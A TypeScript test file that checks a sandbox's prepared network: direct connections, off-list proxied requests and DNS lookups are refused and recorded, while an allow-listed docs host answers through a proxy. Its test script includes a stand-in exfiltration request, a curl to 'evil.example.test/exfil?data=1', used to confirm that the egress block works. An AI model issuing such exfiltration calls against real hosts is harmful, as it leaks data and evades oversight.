import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Readable, Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EgressAttempt } from '../../core/domain/egress.ts';
import { confineCommand, detectIsolation } from '../confinement/confinement.ts';
import { listenOnLoopback } from '../processes/listen-on-loopback.ts';
import { createEgressProxy, type EgressProxy } from './egress-proxy.ts';
import { prepareNetwork, type NetworkPlan } from './prepare-network.ts';

/**
 * A command in a sandbox whose network the harness prepared: it reaches nothing on the host but
 * the bridged proxy, and every way it tries is refused and recorded — a direct connection to a
 * host service (by the connection tracker), a proxied request off the allow-list (by the proxy),
 * a name lookup (by the DNS catcher) — while an allowed host answers through the proxy.
 */
const isolation = detectIsolation('auto');
const PROXY_PORT = 41128;
let work: string;
let hostService: Server;
let hostPort: number;
let docsSite: Server;
let docsPort: number;
let proxy: EgressProxy;
const proxyRecords: EgressAttempt[] = [];

beforeAll(async () => {
  work = mkdtempSync(path.join(tmpdir(), 'prepare-network-'));
  hostService = createServer((_request, response) => response.end('SECRET host service answered'));
  hostPort = await listenOnLoopback(hostService);
  docsSite = createServer((request, response) => response.end(`docs page ${request.url ?? ''} for ${request.headers.host ?? ''}`));
  docsPort = await listenOnLoopback(docsSite);
  proxy = createEgressProxy(() => ({ allowed: [{ pattern: 'docs.example.test', upstream: { host: '127.0.0.1', port: docsPort } }], record: (attempt) => proxyRecords.push(attempt) }));
  await new Promise<void>((resolve) => proxy.server.listen(path.join(work, 'proxy.sock'), resolve));
});

afterAll(() => {
  for (const server of [hostService, docsSite]) server.close();
  void proxy.close();
  rmSync(work, { recursive: true, force: true });
});

async function runPrepared(script: string, plan: Omit<NetworkPlan, 'tools' | 'recorder'>): Promise<{ stdout: string; egress: EgressAttempt[] }> {
  if (isolation.kind !== 'bubblewrap') throw new Error('needs bubblewrap');
  const resolvConf = path.join(work, 'resolv.conf');
  writeFileSync(resolvConf, 'nameserver 127.0.0.1\noptions timeout:1 attempts:1\n');
  const argv = confineCommand(isolation, ['/bin/sh', '-c', script], { writable: [], masked: [work], preparedNetwork: { infoFd: 3, blockFd: 4, resolvConf } });
  const child = spawn(argv[0] ?? '', argv.slice(1), { stdio: ['ignore', 'pipe', 'pipe', 'pipe', 'pipe'], env: { PATH: `${path.dirname(process.execPath)}:/usr/bin:/bin` } });
  let stdout = '';
  child.stdout?.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
  const exited = once(child, 'exit');
  const network = await prepareNetwork({ info: child.stdio[3] as Readable, release: child.stdio[4] as Writable }, { tools: isolation.namespace, recorder: isolation.egressRecorder, ...plan });
  await exited;
  return { stdout, egress: await network.close() };
}

describe.runIf(isolation.kind === 'bubblewrap' && isolation.egressRecorder.kind === 'conntrack')('a sandbox with a prepared network', () => {
  it('refuses and records direct connections to the host and elsewhere; a check gets no network at all', async () => {
    const script = [
      `curl -s -m 5 http://127.0.0.1:${hostPort}/ || echo "curl-refused:$?"`,
      `node -e "require('net').connect(${hostPort}, '10.1.2.3').on('error', (e) => console.log('node-refused:' + e.code))"`,
    ].join('; ');
    const { stdout, egress } = await runPrepared(script, {});
    expect(stdout).toContain('curl-refused:7');
    expect(stdout).toContain('node-refused:ECONNREFUSED');
    expect(stdout).not.toContain('SECRET');
    expect(egress).toEqual([
      expect.objectContaining({ via: 'connection', host: '127.0.0.1', port: hostPort, protocol: 'tcp' }),
      expect.objectContaining({ via: 'connection', host: '10.1.2.3', port: hostPort, protocol: 'tcp' }),
    ]);
  });

  it('lets an allowed host answer through the proxy, and records what it refused: proxied requests and name lookups', async () => {
    const proxyUrl = `http://127.0.0.1:${PROXY_PORT}`;
    const script = [
      `curl -s -m 5 -x ${proxyUrl} http://docs.example.test/page`,
      'echo',
      `curl -s -m 5 -x ${proxyUrl} http://evil.example.test/exfil?data=1`,
      `curl -s -m 5 -x ${proxyUrl} https://evil.example.test/ || echo "connect-refused:$?"`,
      `getent hosts lookup.example.test || echo "lookup-failed"`,
    ].join('; ');
    proxyRecords.length = 0;
    const { stdout, egress } = await runPrepared(script, { bridge: { listen: [{ port: PROXY_PORT, socket: path.join(work, 'proxy.sock') }], expose: [], dns: true } });
    expect(stdout).toContain('docs page /page for docs.example.test');
    expect(stdout).toContain('Refused by the evaluation harness');
    expect(stdout).toContain('connect-refused:56');
    expect(stdout).toContain('lookup-failed');
    expect(proxyRecords).toEqual([
      expect.objectContaining({ via: 'proxy', host: 'evil.example.test', port: 80, detail: 'GET /exfil' }),
      expect.objectContaining({ via: 'proxy', host: 'evil.example.test', port: 443, detail: 'CONNECT' }),
    ]);
    expect(egress).toEqual(expect.arrayContaining([expect.objectContaining({ via: 'dns', host: 'lookup.example.test' })]));
    // Nothing the harness bridges shows up as a refused connection.
    expect(egress.filter((attempt) => attempt.via === 'connection')).toEqual([]);
  });
});
